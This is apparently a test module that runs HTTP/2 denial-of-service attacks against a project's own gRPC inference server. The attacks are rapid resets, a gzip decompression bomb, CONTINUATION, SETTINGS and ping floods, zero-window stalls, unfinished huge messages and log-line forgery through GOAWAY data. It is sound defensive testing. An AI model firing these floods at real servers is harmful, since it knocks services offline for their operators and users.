"""Attacks with frames of HTTP/2, most of them without a token."""

import zlib
from contextlib import ExitStack

from grpc_health.v1 import health_pb2
from hpack import Encoder
from hyperframe import frame as h2

from edge.pb import inference_pb2 as pb
from tests.attacks.measure import attack
from tests.attacks.wire import HEALTH, INFER, Peer, each_of, flood, message
from tests.support.http2_client import raw
from tests.support.sample_requests import good


@attack()
def compressed_names_to_watch(target):
    """40 watches of 30 kB each, which hold names of 30 MB."""
    deflater = zlib.compressobj(wbits=16 + zlib.MAX_WBITS)
    content = health_pb2.HealthCheckRequest(service="a" * 30_000_000).SerializeToString()
    name = deflater.compress(content) + deflater.flush()
    with Peer(target.grpc_port) as peer:
        peer.agree()
        for _ in range(40):
            peer.call(f"/{HEALTH}/Watch", name, ("grpc-encoding", "gzip"), compressed=True)
        peer.stay(1.0)


@attack()
def half_open_calls(target):
    """30 connections of 4,000 calls without an end, each with 8 KB of headers that take 18 bytes."""
    large = ("x", "y" * 3_500)

    def open_calls(peer):
        peer.agree()
        peer.write(b"".join(peer.head(f"/{HEALTH}/Check", large, large)[1] for _ in range(4_000)))

    each_of(30, target.grpc_port, open_calls, 2.0, rest_seconds=0.5)


@attack()
def forged_log_lines(target):
    """The debug data of GOAWAY with line ends and escapes, which a library may write to the log."""
    line = b"\n\x1b[31m2026-01-01 ERROR forged: all models are lost"
    data = (line * (16_000 // len(line)))[:16_000]
    flood(target.grpc_port, h2.GoAwayFrame(0, error_code=2, additional_data=data).serialize() * 20, 0.3)
    return "a forged line in the log" if b"ERROR forged" in target.log.read_bytes()[-10_000_000:] else None


@attack()
def rapid_resets(target):
    """5.3 MB of calls, each reset at once, in one write."""
    # grpcio's window for a connection would end it.
    body = message(good().SerializeToString()) if target.transport == "nghttp2" else b""
    with Peer(target.grpc_port) as peer:
        peer.agree()
        written = bytearray()
        while len(written) < 5_300_000:
            stream, head = peer.head(INFER, *target.bearer())
            written += head + (raw(0, 1, stream, body) if body else b"") + raw(3, 0, stream, b"\0\0\0\x08")
        peer.write(bytes(written))
        peer.stay(1.0)


@attack()
def unread_answers(target):
    """8 connections that take no answer, and ask for 80 MB of them each."""
    request = pb.ModelInferRequest(id="i" * 10_000_000)
    request.MergeFrom(good())
    content = request.SerializeToString()

    def ask(peer):
        peer.agree()
        for _ in range(8):
            peer.call(INFER, content, *target.bearer())

    each_of(8, target.grpc_port, ask, settings={h2.SettingsFrame.INITIAL_WINDOW_SIZE: 0})


def _headers(flags):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", INFER), (":authority", "test")]
    return raw(1, flags, 1, Encoder().encode([*fields, ("te", "trailers"), ("content-type", "application/grpc")]))


_OPENED = _headers(4)
_FLOODS = {
    "settings": raw(4, 0, 0, b"\0\x04\0\0\xff\xff" * 100) * 2_000,
    "empty-data": _OPENED + raw(0, 0, 1, b"") * 50_000,
    "continuations": _headers(0) + raw(9, 0, 1, b"\x40\x01x\x01y") * 20_000,
    "padding": _OPENED + raw(0, 8, 1, b"\xff" + bytes(255)) * 200,
    "unknown-frames": raw(0x42, 0xFF, 7, bytes(100)) * 2_000,
}


@attack(doors=_FLOODS)
def flood_of(target, door):
    flood(target.grpc_port, _FLOODS[door])


@attack(transports=("grpcio",))  # on nghttp2, the eleventh ends the connection
def flood_of_pings(target):
    """Pings on one connection after another: a server with several threads may read each on a different one."""
    for _ in range(6):
        flood(target.grpc_port, raw(6, 0, 0, bytes(8)) * 2_000, 0.7)


@attack(spares=("infer", "image"))  # whoever may call can fill the queue, against which there is --rate-limit
def flood_of_calls(target):
    """5 MB of small calls on 4 connections, each in one write."""
    content = message(good().SerializeToString())
    with ExitStack() as connections:
        peers = [connections.enter_context(Peer(target.grpc_port)) for _ in range(4)]
        for peer in peers:
            peer.agree()
            written = bytearray()
            while len(written) < (1_300_000 if target.transport == "nghttp2" else 60_000):  # grpcio's first window
                stream, head = peer.head(INFER, *target.bearer())
                written += head + raw(0, 1, stream, content)
            peer.write(bytes(written))
        for peer in peers:
            peer.stay(0.3)


def _unfinished(target, path, *fields):
    """Announce messages of 60 MB on many streams, send as much of them as the windows allow, and hang up."""
    part = b"\0" + (60_000_000).to_bytes(4, "big") + bytes(250_000)

    def begin(peer):
        peer.agree()
        for _ in range(200):
            stream, head = peer.head(path, *fields)
            peer.write(head)
            peer.send(stream, part, end=False)

    each_of(16, target.grpc_port, begin, 1.5)


@attack()
def unfinished_messages(target):
    """16 connections of 50 MB each in messages that do not end."""
    _unfinished(target, INFER, *target.bearer())


@attack()
def unfinished_messages_without_token(target):
    """The same to the health check."""
    _unfinished(target, f"/{HEALTH}/Check")


@attack()
def idle_connections(target):
    """1,000 connections that only open."""
    each_of(1_000, target.grpc_port, lambda _: None, 1.0, rest_seconds=0.3)
